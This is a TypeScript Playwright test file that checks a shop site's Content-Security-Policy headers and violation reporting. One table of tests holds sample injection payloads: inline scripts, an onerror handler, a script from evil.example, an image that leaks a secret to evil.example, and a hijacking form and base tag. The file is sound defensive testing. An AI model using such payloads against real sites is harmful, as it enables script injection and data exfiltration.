import type { Page } from 'playwright-core';
import { describe, expect, inject, test } from 'vitest';
import { PAGES } from '../src/pages.ts';
import { fillCart } from '../src/shopping.ts';
import { hydrated, newContext, newPage, open, takeProblems, useBrowser } from '../src/visitor.ts';

useBrowser();

const policy = (response: Response) => response.headers.get('content-security-policy') ?? '';

declare global {
  interface Window {
    reportViolation(text: string): void;
  }
}

/** Every violation of the page's policy from its first byte on, as the browser reports it. */
async function watchViolations(page: Page): Promise<string[]> {
  const found: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => found.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      window.reportViolation(`${violatedDirective} ${blockedURI} ${sample}`);
    });
  });
  return found;
}

describe('the policy of every page holds back nothing of its own', () => {
  test.each(PAGES)('%s (%i)', async (path) => {
    const page = await newPage();
    const violations = await watchViolations(page);
    await page.goto(path);
    await hydrated(page);
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
    await page.waitForLoadState('networkidle');
    expect(violations).toEqual([]);
    // The answer's own status is no problem here; a refusal on the console would be one.
    expect(takeProblems(page).filter((problem) => !/^4(?:04|10) /.test(problem))).toEqual([]);
  });

  test('the way from a product to the cart and the order', async () => {
    const page = await newPage();
    const violations = await watchViolations(page);
    await page.goto('/product/CL-01');
    await hydrated(page);
    await page.locator('a.variant').first().click();
    await page.waitForURL('**/product/CL-01?sku=*');
    await fillCart(page, 'CL-01-ME');
    for (const path of ['/checkout/cart', '/checkout/checkout']) {
      await page.goto(path);
      await hydrated(page);
    }
    await page.locator('.picker-button').click();
    expect(violations).toEqual([]);
  });
});

test.each([
  ['script-src', 'an inline script', '<script>window.injected = true</script>'],
  ['script-src', 'a handler', '<img src="/nowhere.png" onerror="window.injected = true">'],
  ['script-src', 'a script of another origin', '<script src="https://evil.example/a.js"></script>'],
  ['style-src', 'a style', '<style>body { --injected: 1 }</style>'],
  ['style-src', 'a style attribute', '<p style="--injected: 1">'],
  ['img-src', 'a picture that tells', '<img src="https://evil.example/?secret">'],
  ['form-action', 'a form that goes away', '<form id="away" action="https://evil.example/"></form>'],
  ['base-uri', 'another base', '<base href="https://evil.example/">'],
  ['object-src', 'a plugin', '<object data="/"></object>'],
  ['frame-src', 'a frame', '<iframe src="/"></iframe>'],
])('%s refuses %s that gets into the HTML', async (directive, _, injected) => {
  const page = await (await newContext()).newPage();
  const violations = await watchViolations(page);
  await page.route('**/stores', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('<main id="main">', `$&${injected}`) });
  });
  await page.goto('/stores');
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#away')?.submit());
  await expect.poll(() => violations.join()).toMatch(new RegExp(`^${directive}`));
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
  takeProblems(page);
  await page.context().close();
});

test('the import map and structured data work: one is let through by its hash, the others are not executed', async () => {
  const page = await open('/product/CL-01');
  const inline = await page
    .locator('script:not([src])')
    .evaluateAll((scripts) => scripts.map((script) => script.getAttribute('type')));
  expect([...new Set(inline)].sort()).toEqual(['application/ld+json', 'importmap']);
  // As text: the test runner would take an import for its own.
  const type = await page.evaluate("import('selvedge@1').then((module) => typeof module.refreshFragments)");
  expect(type).toBe('function');
});

test('with and without the edge a page says the same', async () => {
  for (const [path] of PAGES) {
    const [edge, layout] = await Promise.all([fetch(inject('edge') + path), fetch(inject('layout') + path)]);
    expect(policy(edge)).toContain("script-src 'self' 'sha256-");
    expect(policy(edge)).not.toMatch(/unsafe|nonce|\*/);
    expect(policy(edge)).toBe(policy(layout));
    for (const name of ['referrer-policy', 'permissions-policy', 'x-content-type-options'])
      expect(edge.headers.get(name), name).toBeTruthy();
  }
});

test.each(['/robots.txt', '/sitemap.xml', '/checkout/cart/add'])('%s is no HTML and has no policy', async (path) => {
  const { headers } = await fetch(inject('edge') + path);
  expect(headers.get('content-type')).not.toContain('text/html');
  expect([headers.get('content-security-policy'), headers.get('x-content-type-options')]).toEqual([null, 'nosniff']);
});
